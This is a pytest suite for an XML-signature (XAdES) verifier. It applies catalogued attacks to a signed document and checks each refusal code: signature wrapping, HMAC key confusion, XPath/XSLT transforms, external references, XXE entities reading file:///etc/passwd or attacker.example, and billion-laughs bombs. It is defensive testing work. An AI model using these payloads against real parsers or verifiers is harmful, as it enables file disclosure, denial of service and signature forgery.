"""Known attacks on XML signatures (C.6), each played on one genuine document.

Each row is a change and the answer that it gets. libxmlsec gives a second opinion on every one: it may accept what we
refuse as a matter of policy, but we never accept what it refuses.
"""

from __future__ import annotations

import base64
import hmac
import re
from collections.abc import Callable
from hashlib import sha256

import pytest
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.hashes import SHA256 as SHA256_HASH
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from lxml import etree
from signxml.algorithms import CanonicalizationMethod, SignatureMethod
from signxml.xades.xades import XAdESSigner

from epix_node.errors import MalformedDocumentError
from epix_node.permit.reasons import Reason
from epix_node.signing.profile import DS, ECDSA_SHA256, ENVELOPED, EXCLUSIVE_C14N, SHA256, SIGNED_PROPERTIES_TYPE, XADES
from epix_node.signing.verifier import verify

Change = Callable[[bytes], bytes]
NAMES = {"ds": DS, "xades": XADES, "e": "urn:epix-node:document:1"}
C14N_1_0 = "http://www.w3.org/TR/2001/REC-xml-c14n-20010315"


def put(old: str, new: str, *, count: int = 1) -> Change:
    """Writes `new` instead of `old`, which must be there."""

    def change(document: bytes) -> bytes:
        assert old.encode() in document, old
        return document.replace(old.encode(), new.encode(), count)

    return change


def put_pattern(pattern: str, new: str) -> Change:
    """Writes `new` instead of what the pattern matches first."""

    def change(document: bytes) -> bytes:
        changed, n = re.subn(pattern.encode(), new.encode(), document, count=1, flags=re.DOTALL)
        assert n, pattern
        return changed

    return change


def on_tree(edit: Callable[[etree._Element], etree._Element | None]) -> Change:
    """Edits the tree; a root that the edit returns takes the place of the old one."""

    def change(document: bytes) -> bytes:
        root = etree.fromstring(document)
        edited = edit(root)
        return etree.tostring(root if edited is None else edited)

    return change


def one(root: etree._Element, path: str) -> etree._Element:
    (element,) = root.xpath(path, namespaces=NAMES)
    return element


def clone(element: etree._Element) -> etree._Element:
    copy = etree.fromstring(etree.tostring(element, with_tail=False))
    copy.tail = None
    return copy


def forged(root: etree._Element) -> etree._Element:
    """A copy of the document without signature, with another number."""
    copy = clone(root)
    copy.remove(copy[-1])
    one(copy, "//*[local-name()='Number']").text = "26XA666666"
    return copy


# -- wrapping ----------------------------------------------------------------------------------------------------------


def forged_root_with_genuine_signature(root: etree._Element) -> etree._Element:
    other = forged(root)
    other.append(root[-1])
    return other


def genuine_document_in_forged_body(root: etree._Element) -> etree._Element:
    other = forged(root)
    other[1].append(root)
    return other


def genuine_document_in_object(root: etree._Element) -> etree._Element:
    other, signature = forged(root), root[-1]
    other.append(signature)
    etree.SubElement(signature, f"{{{DS}}}Object").append(root)
    return other


def content_by_id(root: etree._Element) -> etree._Element:
    """The genuine content moves into the body of a forged root, found by its Id instead of by URI=""."""
    other, signature = forged(root), root[-1]
    one(signature, "ds:SignedInfo/ds:Reference[@URI='']").set("URI", "#genuine")
    other.append(signature)
    root.set("Id", "genuine")
    other[1].append(root)
    return other


def manifest_in_object(root: etree._Element) -> None:
    etree.SubElement(one(root, "//ds:Object"), f"{{{DS}}}Manifest")


def second_object(root: etree._Element) -> None:
    etree.SubElement(root[-1], f"{{{DS}}}Object").append(forged(root))


def second_signature(root: etree._Element) -> None:
    root.append(clone(root[-1]))


def second_signature_inside(root: etree._Element) -> None:
    root[1].append(clone(root[-1]))


def signature_first(root: etree._Element) -> None:
    root.insert(0, root[-1])


def signature_in_body(root: etree._Element) -> None:
    root[1].append(root[-1])


def second_signed_info(root: etree._Element) -> None:
    """CVE-2025-29774."""
    root[-1].insert(0, clone(one(root, "//ds:SignedInfo")))


def wrapped_signed_info(root: etree._Element) -> None:
    signed_info = one(root, "//ds:SignedInfo")
    wrapper = etree.Element(f"{{{DS}}}Object")
    root[-1].replace(signed_info, wrapper)
    wrapper.append(signed_info)


def third_child(root: etree._Element) -> None:
    root.insert(2, clone(root[1]))


def forged_signed_properties(root: etree._Element) -> None:
    """The genuine ones stay, found by their Id; forged ones come first."""
    qualifying = one(root, "//xades:QualifyingProperties")
    copy = clone(qualifying[0])
    copy.set("Id", "forged")
    qualifying.insert(0, copy)


def same_id_in_the_body(attribute: str) -> Change:
    def edit(root: etree._Element) -> None:
        one(root, "//*[local-name()='Line']").set(attribute, one(root, "//xades:SignedProperties").get("Id"))

    return on_tree(edit)


WRAPPING: dict[str, tuple[Change, str]] = {
    "forged root carries the genuine signature": (on_tree(forged_root_with_genuine_signature), "SIGNATURE_INVALID"),
    "genuine document in a forged body": (on_tree(genuine_document_in_forged_body), "SIGNATURE_MISPLACED"),
    "genuine document in a ds:Object": (on_tree(genuine_document_in_object), "REFERENCE_NOT_ALLOWED"),
    "genuine content found by its Id": (on_tree(content_by_id), "REFERENCE_NOT_ALLOWED"),
    "manifest": (on_tree(manifest_in_object), "REFERENCE_NOT_ALLOWED"),
    "fake object": (on_tree(second_object), "REFERENCE_NOT_ALLOWED"),
    "two signatures": (on_tree(second_signature), "SIGNATURE_NOT_UNIQUE"),
    "two signatures, one deeper": (on_tree(second_signature_inside), "SIGNATURE_NOT_UNIQUE"),
    "signature first": (on_tree(signature_first), "SIGNATURE_MISPLACED"),
    "signature in the body": (on_tree(signature_in_body), "SIGNATURE_MISPLACED"),
    "two SignedInfo": (on_tree(second_signed_info), "SIGNATURE_INVALID"),
    "SignedInfo in a wrapper": (on_tree(wrapped_signed_info), "REFERENCE_NOT_ALLOWED"),
    "a third child": (on_tree(third_child), "NOT_A_DOCUMENT"),
    "forged SignedProperties beside the genuine": (on_tree(forged_signed_properties), "REFERENCE_NOT_ALLOWED"),
    "the same Id in the body": (same_id_in_the_body("Id"), "DUPLICATE_ID"),
    "the same ID in the body": (same_id_in_the_body("ID"), "DUPLICATE_ID"),
    "the same id in the body": (same_id_in_the_body("id"), "DUPLICATE_ID"),
    "the same iD in the body": (same_id_in_the_body("iD"), "DUPLICATE_ID"),
    "the same xml:id in the body": (
        same_id_in_the_body("{http://www.w3.org/XML/1998/namespace}id"),
        "DUPLICATE_ID",
    ),
    "the same wsu:Id in the body": (same_id_in_the_body("{urn:wsu}Id"), "DUPLICATE_ID"),
    "signature stripped": (put_pattern("<ds:Signature .*</ds:Signature>", ""), "SIGNATURE_MISSING"),
}

# -- algorithms, references, keys --------------------------------------------------------------------------------------

REFERENCE = '<ds:Reference URI=""'
TRANSFORM = f'<ds:Transform Algorithm="{EXCLUSIVE_C14N}"/>'
XPATH = "http://www.w3.org/TR/1999/REC-xpath-19991116"
XSLT = "http://www.w3.org/TR/1999/REC-xslt-19991116"
FILTER = '<ds:Transform Algorithm="%s"><ds:XPath>not(ancestor-or-self::ds:Signature)</ds:XPath></ds:Transform>'
STYLESHEET = f'<ds:Transform Algorithm="{XSLT}"><x:stylesheet xmlns:x="urn:x"/></ds:Transform>'
RETRIEVAL = '<ds:RetrievalMethod URI="http://attacker.example/key"/>'
PREFIX_LIST = f'<ec:InclusiveNamespaces xmlns:ec="{EXCLUSIVE_C14N}" PrefixList="p"/>'
LENGTH = (
    f'<ds:SignatureMethod Algorithm="{ECDSA_SHA256}"><ds:HMACOutputLength>8</ds:HMACOutputLength></ds:SignatureMethod>'
)


def hmac_with_the_public_key(document: bytes) -> bytes:
    """The HMAC confusion of GHSA-6vx8-pcwv-xhf4: the public key serves as the secret."""
    root = etree.fromstring(document)
    one(root, "//ds:SignatureMethod").set("Algorithm", "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256")
    certificate = base64.b64decode(one(root, "//ds:X509Certificate").text)
    signed_info = etree.tostring(one(root, "//ds:SignedInfo"), method="c14n", exclusive=True)
    value = hmac.new(certificate, signed_info, sha256).digest()
    one(root, "//ds:SignatureValue").text = base64.b64encode(value).decode()
    return etree.tostring(root)


def unnamed_reference(root: etree._Element) -> None:
    """The reference to the document loses its Id, and DataObjectFormat names `#None`."""
    del one(root, "//ds:Reference[@URI='']").attrib["Id"]
    one(root, "//xades:DataObjectFormat").set("ObjectReference", "#None")


POLICY: dict[str, tuple[Change, str]] = {
    "SHA-1 signature": (put("#ecdsa-sha256", "#ecdsa-sha1"), "ALGORITHM_NOT_ALLOWED"),
    "RSA instead of ECDSA": (put("#ecdsa-sha256", "#rsa-sha256"), "ALGORITHM_NOT_ALLOWED"),
    "SHA-1 digest": (put(f'"{SHA256}"', '"http://www.w3.org/2000/09/xmldsig#sha1"'), "ALGORITHM_NOT_ALLOWED"),
    "SHA-512 digest": (put(f'"{SHA256}"', '"http://www.w3.org/2001/04/xmlenc#sha512"'), "ALGORITHM_NOT_ALLOWED"),
    "HMAC with the public key": (hmac_with_the_public_key, "ALGORITHM_NOT_ALLOWED"),
    "HMACOutputLength": (put(f'<ds:SignatureMethod Algorithm="{ECDSA_SHA256}"/>', LENGTH), "ALGORITHM_NOT_ALLOWED"),
    "inclusive C14N of SignedInfo": (
        put(
            f'<ds:CanonicalizationMethod Algorithm="{EXCLUSIVE_C14N}"',
            f'<ds:CanonicalizationMethod Algorithm="{C14N_1_0}"',
        ),
        "ALGORITHM_NOT_ALLOWED",
    ),
    "C14N with comments": (
        put(f'Method Algorithm="{EXCLUSIVE_C14N}"', f'Method Algorithm="{EXCLUSIVE_C14N}WithComments"'),
        "ALGORITHM_NOT_ALLOWED",
    ),
    "C14N with a prefix list": (
        put(
            f'<ds:CanonicalizationMethod Algorithm="{EXCLUSIVE_C14N}"/>',
            f'<ds:CanonicalizationMethod Algorithm="{EXCLUSIVE_C14N}">{PREFIX_LIST}</ds:CanonicalizationMethod>',
        ),
        "ALGORITHM_NOT_ALLOWED",
    ),
    "inclusive C14N of the content": (
        put(TRANSFORM, TRANSFORM.replace(EXCLUSIVE_C14N, C14N_1_0)),
        "REFERENCE_NOT_ALLOWED",
    ),
    "prefix list of the content": (
        put(TRANSFORM, TRANSFORM.replace("/>", f">{PREFIX_LIST}</ds:Transform>")),
        "REFERENCE_NOT_ALLOWED",
    ),
    "XPath transform": (put(TRANSFORM, FILTER % XPATH + TRANSFORM), "REFERENCE_NOT_ALLOWED"),
    "XPath instead of enveloped": (
        put(f'<ds:Transform Algorithm="{ENVELOPED}"/>', FILTER % XPATH),
        "REFERENCE_NOT_ALLOWED",
    ),
    "XPath Filter 2": (
        put(TRANSFORM, FILTER % "http://www.w3.org/2002/06/xmldsig-filter2" + TRANSFORM),
        "REFERENCE_NOT_ALLOWED",
    ),
    "XSLT transform": (put(TRANSFORM, TRANSFORM + STYLESHEET), "REFERENCE_NOT_ALLOWED"),
    "base64 transform": (put(TRANSFORM, TRANSFORM.replace(EXCLUSIVE_C14N, f"{DS}base64")), "REFERENCE_NOT_ALLOWED"),
    "enveloped twice": (
        put(f'<ds:Transform Algorithm="{ENVELOPED}"/>', f'<ds:Transform Algorithm="{ENVELOPED}"/>' * 2),
        "REFERENCE_NOT_ALLOWED",
    ),
    "no transforms": (put_pattern("<ds:Transforms>.*?</ds:Transforms>", ""), "REFERENCE_NOT_ALLOWED"),
    "external reference": (put(REFERENCE, '<ds:Reference URI="http://attacker.example/"'), "REFERENCE_NOT_ALLOWED"),
    "file reference": (put(REFERENCE, '<ds:Reference URI="file:///etc/passwd"'), "REFERENCE_NOT_ALLOWED"),
    "XPointer reference": (put(REFERENCE, '<ds:Reference URI="#xpointer(/)"'), "REFERENCE_NOT_ALLOWED"),
    "reference without URI": (put(REFERENCE, "<ds:Reference"), "REFERENCE_NOT_ALLOWED"),
    "document signed twice": (
        on_tree(lambda root: one(root, "//ds:SignedInfo").insert(2, clone(one(root, "//ds:Reference[@URI='']")))),
        "REFERENCE_NOT_ALLOWED",
    ),
    "document not signed": (
        on_tree(lambda root: one(root, "//ds:SignedInfo").remove(one(root, "//ds:Reference[@URI='']"))),
        "REFERENCE_NOT_ALLOWED",
    ),
    "properties not signed": (
        on_tree(lambda root: one(root, "//ds:SignedInfo").remove(one(root, "//ds:Reference[@Type]"))),
        "REFERENCE_NOT_ALLOWED",
    ),
    "no references": (put_pattern("<ds:Reference.*</ds:Reference>", ""), "REFERENCE_NOT_ALLOWED"),
    "reference of another Type": (put(SIGNED_PROPERTIES_TYPE, f"{DS}Manifest"), "REFERENCE_NOT_ALLOWED"),
    "document as a Manifest": (put(REFERENCE, f'{REFERENCE} Type="{DS}Manifest"'), "REFERENCE_NOT_ALLOWED"),
    "KeyValue": (put_pattern("<ds:KeyInfo ([^>]*)>", r"<ds:KeyInfo \1><ds:KeyValue/>"), "REFERENCE_NOT_ALLOWED"),
    "RetrievalMethod": (put_pattern("<ds:X509Data>.*</ds:X509Data>", RETRIEVAL), "REFERENCE_NOT_ALLOWED"),
    "KeyName": (put("<ds:X509Data>", "<ds:KeyName>XA</ds:KeyName><ds:X509Data>"), "REFERENCE_NOT_ALLOWED"),
    "serial instead of certificate": (
        put_pattern("<ds:X509Certificate>.*</ds:X509Certificate>", "<ds:X509SubjectName>C=XA</ds:X509SubjectName>"),
        "REFERENCE_NOT_ALLOWED",
    ),
    "no certificate": (put_pattern("<ds:X509Certificate>.*</ds:X509Certificate>", ""), "REFERENCE_NOT_ALLOWED"),
    "no KeyInfo": (put_pattern("<ds:KeyInfo.*</ds:KeyInfo>", ""), "SIGNATURE_INVALID"),
    "unsigned properties": (
        put("</xades:QualifyingProperties>", "<xades:UnsignedProperties/></xades:QualifyingProperties>"),
        "REFERENCE_NOT_ALLOWED",
    ),
    "counter-signature": (
        put(
            "</xades:QualifyingProperties>",
            "<xades:UnsignedProperties><xades:UnsignedSignatureProperties><xades:CounterSignature><ds:Signature/>"
            "</xades:CounterSignature></xades:UnsignedSignatureProperties></xades:UnsignedProperties>"
            "</xades:QualifyingProperties>",
        ),
        "SIGNATURE_NOT_UNIQUE",
    ),
    "properties of another signature": (put_pattern('Target="#[^"]*"', 'Target="#other"'), "REFERENCE_NOT_ALLOWED"),
    "no SigningTime": (put_pattern("<xades:SigningTime>.*</xades:SigningTime>", ""), "SIGNATURE_INVALID"),
    "no SigningCertificateV2": (
        put_pattern("<xades:SigningCertificateV2>.*</xades:SigningCertificateV2>", ""),
        "SIGNATURE_INVALID",
    ),
    "SigningCertificateV2 of two certificates": (
        on_tree(lambda root: one(root, "//xades:SigningCertificateV2").append(clone(one(root, "//xades:Cert")))),
        "SIGNATURE_INVALID",
    ),
    "SigningCertificateV2 with a URI": (
        put("<xades:Cert>", '<xades:Cert URI="http://attacker.example/">'),
        "SIGNATURE_INVALID",
    ),
    "SigningCertificateV2 of two digests": (
        on_tree(lambda root: one(root, "//xades:Cert").append(clone(one(root, "//xades:CertDigest")))),
        "SIGNATURE_INVALID",
    ),
    "SigningCertificateV2 by SHA-1": (
        put_pattern(
            f'<xades:CertDigest>(.*?)"{re.escape(SHA256)}"',
            r'<xades:CertDigest>\1"http://www.w3.org/2000/09/xmldsig#sha1"',
        ),
        "ALGORITHM_NOT_ALLOWED",
    ),
    "format of no reference": (
        on_tree(unnamed_reference),
        "SIGNATURE_INVALID",
    ),
    "another MimeType": (put("<xades:MimeType>text/xml", "<xades:MimeType>text/html"), "SIGNATURE_INVALID"),
}

# -- values and bytes --------------------------------------------------------------------------------------------------


def signature_value(make: Callable[[bytes], bytes]) -> Change:
    """Replaces the 64 bytes of the signature value by what `make` makes of them."""

    def edit(root: etree._Element) -> None:
        element = one(root, "//ds:SignatureValue")
        element.text = base64.b64encode(make(base64.b64decode(element.text))).decode()

    return on_tree(edit)


def with_unused_bits(document: bytes) -> bytes:
    """Another spelling of the same base64: the four bits before the padding carry nothing."""
    root = etree.fromstring(document)
    value = one(root, "//ds:SignatureValue")
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
    last = value.text[-3]
    value.text = value.text[:-3] + alphabet[alphabet.index(last) + 1] + "=="
    return etree.tostring(root)


SEAL = "<ds:SignatureValue>"
LAUGHS = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10 if n else "lol"}">' for n in range(10))
BOMB = f"<!DOCTYPE Document [{LAUGHS}]>"
BLOW_UP = f'<!DOCTYPE Document [<!ENTITY e "{"x" * 50_000}">]>'

BYTES: dict[str, tuple[Change, str]] = {
    "zero r and s": (signature_value(lambda _: bytes(64)), "SIGNATURE_INVALID"),
    "zero r": (signature_value(lambda value: bytes(32) + value[32:]), "SIGNATURE_INVALID"),
    "zero s": (signature_value(lambda value: value[:32] + bytes(32)), "SIGNATURE_INVALID"),
    "r and s as large as can be": (signature_value(lambda _: b"\xff" * 64), "SIGNATURE_INVALID"),
    "r and s exchanged": (signature_value(lambda value: value[32:] + value[:32]), "SIGNATURE_INVALID"),
    "too short": (signature_value(lambda value: value[:-1]), "SIGNATURE_INVALID"),
    "too long": (signature_value(lambda value: value + b"\0"), "SIGNATURE_INVALID"),
    "empty value": (signature_value(lambda _: b""), "SIGNATURE_INVALID"),
    "unused bits of base64": (with_unused_bits, "SIGNATURE_INVALID"),
    "stray character in base64": (put(SEAL, f"{SEAL}!"), "SIGNATURE_INVALID"),
    "no-break space in base64": (put(SEAL, f"{SEAL}\u00a0"), "SIGNATURE_INVALID"),
    "element in the value": (put(SEAL, f"{SEAL}<ds:x/>"), "SIGNATURE_INVALID"),
    "comment in the value": (put(SEAL, f"{SEAL}<!---->"), "FORBIDDEN_XML"),
    "comment in a digest": (put("<ds:DigestValue>", "<ds:DigestValue><!-- -->"), "FORBIDDEN_XML"),
    "empty digest": (put_pattern("<ds:DigestValue>[^<]*", "<ds:DigestValue>"), "SIGNATURE_INVALID"),
    "comment cuts a text": (put("26XA000123", "26XA<!-- -->000123"), "FORBIDDEN_XML"),
    "instruction": (put("<Header>", "<?evil x?><Header>"), "FORBIDDEN_XML"),
    "stylesheet instruction": (put("<Document", "<?xml-stylesheet href='x'?><Document"), "FORBIDDEN_XML"),
    "CDATA": (put("26XA000123", "<![CDATA[26XA000123]]>"), "FORBIDDEN_XML"),
    "DOCTYPE": (put("<Document", "<!DOCTYPE Document><Document"), "FORBIDDEN_XML"),
    "external DTD": (put("<Document", '<!DOCTYPE d SYSTEM "http://attacker.example/d"><Document'), "FORBIDDEN_XML"),
    "external entity": (
        put("<Document", '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><Document'),
        "FORBIDDEN_XML",
    ),
    "parameter entity": (
        put("<Document", '<!DOCTYPE d [<!ENTITY % x SYSTEM "http://attacker.example/"> %x;]><Document'),
        "FORBIDDEN_XML",
    ),
    "billion laughs": (put("<Document", BOMB + "<Document"), "FORBIDDEN_XML"),
    "quadratic blow-up": (put("<Document", BLOW_UP + "<Document"), "FORBIDDEN_XML"),
    "undeclared entity": (put("26XA000123", "&e9;"), "NOT_A_DOCUMENT"),
    "UTF-16": (lambda document: document.decode().replace("UTF-8", "UTF-16").encode("utf-16"), "NOT_UTF8"),
    "UTF-16 without a mark": (lambda document: document.decode().encode("utf-16-le"), "NOT_UTF8"),
    "UTF-7": (put("encoding='UTF-8'", "encoding='UTF-7'"), "NOT_UTF8"),
    "Latin-1": (put("encoding='UTF-8'", "encoding='ISO-8859-1'"), "NOT_UTF8"),
    "byte order mark": (lambda document: b"\xef\xbb\xbf" + document, "NOT_UTF8"),
    "overlong UTF-8": (lambda document: document.replace(b"regius", b"r\xc1\xa5gius"), "NOT_UTF8"),
    "NUL at the end": (lambda document: document + b"\0", "NOT_UTF8"),
    "text after the end": (lambda document: document + b"x", "NOT_A_DOCUMENT"),
    "a second document": (lambda document: document + document.partition(b"\n")[2], "NOT_A_DOCUMENT"),
    "cut short": (lambda document: document[:-20], "NOT_A_DOCUMENT"),
    "changed number": (put("26XA000123", "26XA000124"), "SIGNATURE_INVALID"),
    "changed attribute": (put('p:kind="E"', 'p:kind="I"'), "SIGNATURE_INVALID"),
    "white space in the content": (put("  <Body>", " <Body>"), "SIGNATURE_INVALID"),
    "text beside the signature": (put("<ds:Signature ", "x<ds:Signature "), "SIGNATURE_INVALID"),
    "xml:lang on the root": (put("<Document ", '<Document xml:lang="en" '), "SIGNATURE_INVALID"),
    "xml:base on the root": (put("<Document ", '<Document xml:base="http://attacker.example/" '), "SIGNATURE_INVALID"),
    "xml:base on the signature": (
        put("<ds:Signature ", '<ds:Signature xml:base="http://attacker.example/" '),
        "SIGNATURE_INVALID",
    ),
    "text in the signature": (put("<ds:KeyInfo", "unsigned<ds:KeyInfo"), "SIGNATURE_INVALID"),
    "prefix means something else": (put("<p:Line", '<p:Line xmlns:p="urn:other"'), "SIGNATURE_INVALID"),
    "ds means something else": (put("<ds:SignedInfo", '<ds:SignedInfo xmlns:ds="urn:other"'), "SIGNATURE_INVALID"),
    "relative namespace name": (put("<p:Permit ", '<p:Permit xmlns:unused="relative" '), "SIGNATURE_INVALID"),
    "relative namespace name on the signature": (
        put("<ds:Signature ", '<ds:Signature xmlns:unused="relative" '),
        "SIGNATURE_INVALID",
    ),
    "relative namespace name in the unsigned object": (
        put("<ds:Object>", '<ds:Object xmlns:unused="relative">'),
        "SIGNATURE_INVALID",
    ),
    "default namespace undone": (put("<p:Permit", '<p:Permit xmlns=""'), "VALID"),
    "body of another namespace": (put("<Body>", '<Body xmlns="urn:other">'), "NOT_A_DOCUMENT"),
    "another Party": (put("<Party>XA", "<Party>XB"), "KEY_WRONG_PARTY"),
    "another type": (put("<Type>permit", "<Type>withdrawal"), "SIGNATURE_INVALID"),
    "another environment": (put("<Environment>sandbox", "<Environment>prod"), "SIGNATURE_INVALID"),
    "another signing time": (put("SigningTime>2026", "SigningTime>2025"), "SIGNATURE_INVALID"),
}

ATTACKS = {**WRAPPING, **POLICY, **BYTES}


def outcome(document: bytes, keys, at) -> tuple[str, bytes | None]:
    """The reason (VALID where there is none), and the bytes that may be read."""
    try:
        verdict = verify(document, keys, at=at, environment="sandbox")
    except MalformedDocumentError as refusal:
        return refusal.code, None
    return (verdict.reasons[0] if verdict.reasons else "VALID"), verdict.signed


@pytest.mark.parametrize("name", ATTACKS)
def test_a_known_attack_gets_its_answer(name, signed, keys, xa, at, libxmlsec_accepts):
    """The reason of the step that stops it; and what little passes says what XA signed, for libxmlsec too."""
    change, expected = ATTACKS[name]
    document = change(signed)
    assert document != signed
    answer, content = outcome(document, keys, at)
    assert answer == expected
    if answer == "VALID":
        assert content == outcome(signed, keys, at)[1]
        assert libxmlsec_accepts(document, xa.certificate)


def test_another_certificate_in_key_info_is_another_signer(signed, keys, xa, xb, at):
    """Substituting XB's certificate makes it XB's claim about XA's document."""
    own, other = (base64.b64encode(c.certificate.public_bytes(Encoding.DER)) for c in (xa, xb))
    flat = re.sub(rb"(?<=<ds:X509Certificate>)[^<]*", own, signed)
    assert outcome(flat.replace(own, other), keys, at)[0] == "KEY_WRONG_PARTY"
    assert outcome(flat.replace(own, base64.b64encode(b"no certificate")), keys, at)[0] == "KEY_UNKNOWN"


@pytest.mark.parametrize("version", [1, 3, 127])
def test_a_chain_certificate_of_no_known_version_breaks_nothing(version, signed, keys, xa, at):
    """KeyInfo may hold a chain; what is no certificate in it is a verdict, whatever cryptography raises."""
    der = xa.certificate.public_bytes(Encoding.DER)
    place = der.index(b"\xa0\x03\x02\x01\x02") + 4  # [0] EXPLICIT INTEGER: the version, 2 for v3
    odd = base64.b64encode(der[:place] + bytes([version]) + der[place + 1 :]).decode()
    change = put("</ds:X509Certificate>", f"</ds:X509Certificate><ds:X509Certificate>{odd}</ds:X509Certificate>")
    assert outcome(change(signed), keys, at)[0] == "SIGNATURE_INVALID"


@pytest.mark.parametrize(
    "change",
    [
        put_pattern("(<xades:CertDigest>.*?<ds:DigestValue>)", r"\1!!"),
        put_pattern("(<xades:CertDigest>.*?<ds:DigestValue>)", r"\1<x xmlns='urn:x'/>"),
        put_pattern("(<xades:CertDigest>.*?)=</ds:DigestValue>", r"\1=AAAA</ds:DigestValue>"),
    ],
    ids=["stray characters", "an element", "text after the padding"],
)
def test_a_digest_that_is_signed_but_misspelt_is_not_taken(change, signed, keys, at, resign):
    """Python would skip what does not belong to base64; that somebody signed it does not make it right."""
    assert outcome(resign(change(signed)), keys, at)[0] == "SIGNATURE_INVALID"


def test_a_der_signature_value_is_not_taken(signed, keys, at):
    """XML signatures carry r and s side by side, never ASN.1."""
    der = ec.generate_private_key(ec.SECP256R1()).sign(b"x", ec.ECDSA(SHA256_HASH()))
    assert outcome(signature_value(lambda _: der)(signed), keys, at)[0] == "SIGNATURE_INVALID"


def test_one_flipped_bit_anywhere_never_changes_what_is_read(signed, keys, xa, at, libxmlsec_accepts):
    """At 200 places: refused, or valid with the same content, and then for libxmlsec too; never anything else."""
    genuine = outcome(signed, keys, at)[1]
    passed = 0
    for place in range(0, len(signed), max(1, len(signed) // 200)):
        document = bytearray(signed)
        document[place] ^= 1 << place % 7
        answer, content = outcome(bytes(document), keys, at)
        if answer == "VALID":
            passed += 1
            assert content == genuine, place
            assert libxmlsec_accepts(bytes(document), xa.certificate), place
        else:
            assert content is None
    assert passed < 10  # such as other white space inside a tag


# -- signatures that are right, by the right key, and not of the profile ----------------------------------------------


def test_a_right_signature_with_inclusive_c14n_is_refused(unsigned, xa, keys, at, libxmlsec_accepts):
    """libxmlsec accepts it; the profile does not."""
    stock = XAdESSigner(
        signature_algorithm=SignatureMethod.ECDSA_SHA256, c14n_algorithm=CanonicalizationMethod.CANONICAL_XML_1_0
    )
    root = stock.sign(etree.fromstring(unsigned()), key=xa.key, cert=[xa.certificate], always_add_key_value=False)
    assert libxmlsec_accepts(etree.tostring(root), xa.certificate)
    assert outcome(etree.tostring(root), keys, at)[0] == "ALGORITHM_NOT_ALLOWED"


RIGHT_BUT_REFUSED: dict[str, tuple[Change, str]] = {
    "KeyValue beside the certificate": (
        put_pattern(
            "<ds:KeyInfo ([^>]*)>",
            r'<ds:KeyInfo \1><ds:KeyValue><d:ECKeyValue xmlns:d="http://www.w3.org/2009/xmldsig11#">'
            r'<d:NamedCurve URI="urn:oid:1.2.840.10045.3.1.7"/><d:PublicKey>PUBLIC</d:PublicKey></d:ECKeyValue>'
            r"</ds:KeyValue>",
        ),
        "REFERENCE_NOT_ALLOWED",
    ),
    "content filtered by XPath": (
        put(
            TRANSFORM,
            f'<ds:Transform Algorithm="{XPATH}">'
            '<ds:XPath>not(ancestor-or-self::node()[local-name()="Quantity"])</ds:XPath>'
            f"</ds:Transform>{TRANSFORM}",
        ),
        "REFERENCE_NOT_ALLOWED",
    ),
    "no SigningTime": (put_pattern("<xades:SigningTime>.*</xades:SigningTime>", ""), "SIGNATURE_INVALID"),
    "document found by its Id": (
        lambda document: put(REFERENCE, '<ds:Reference URI="#all"')(put("<Document ", '<Document Id="all" ')(document)),
        "REFERENCE_NOT_ALLOWED",
    ),
}


@pytest.mark.parametrize("name", RIGHT_BUT_REFUSED)
def test_a_right_signature_of_another_shape_is_refused(name, signed, xa, keys, at, resign, libxmlsec_accepts):
    """The owner of the key signed it so, and libxmlsec accepts it; what it covers is not what we would read."""
    change, expected = RIGHT_BUT_REFUSED[name]
    public = xa.key.public_key().public_bytes(Encoding.X962, PublicFormat.UncompressedPoint)
    document = resign(change(signed).replace(b"PUBLIC", base64.b64encode(public)))
    assert libxmlsec_accepts(document, xa.certificate)
    assert outcome(document, keys, at)[0] == expected


def test_a_document_without_a_key_info_reference_is_valid(signed, keys, xa, at, resign, libxmlsec_accepts):
    """The reference to KeyInfo is optional: SigningCertificateV2 binds the certificate."""
    strip = on_tree(lambda root: one(root, "//ds:SignedInfo").remove(root.xpath("//ds:Reference", namespaces=NAMES)[2]))
    document = resign(strip(signed))
    assert libxmlsec_accepts(document, xa.certificate)
    assert outcome(document, keys, at) == outcome(signed, keys, at)
    swapped = document.replace(b"</ds:X509Data>", b"<ds:X509Certificate>AAAA</ds:X509Certificate></ds:X509Data>")
    assert outcome(swapped, keys, at)[0] == "SIGNATURE_INVALID"


def test_every_answer_to_an_attack_is_of_the_closed_list():
    """Contract 4."""
    assert {expected for _, expected in ATTACKS.values()} - {"VALID"} <= set(Reason)
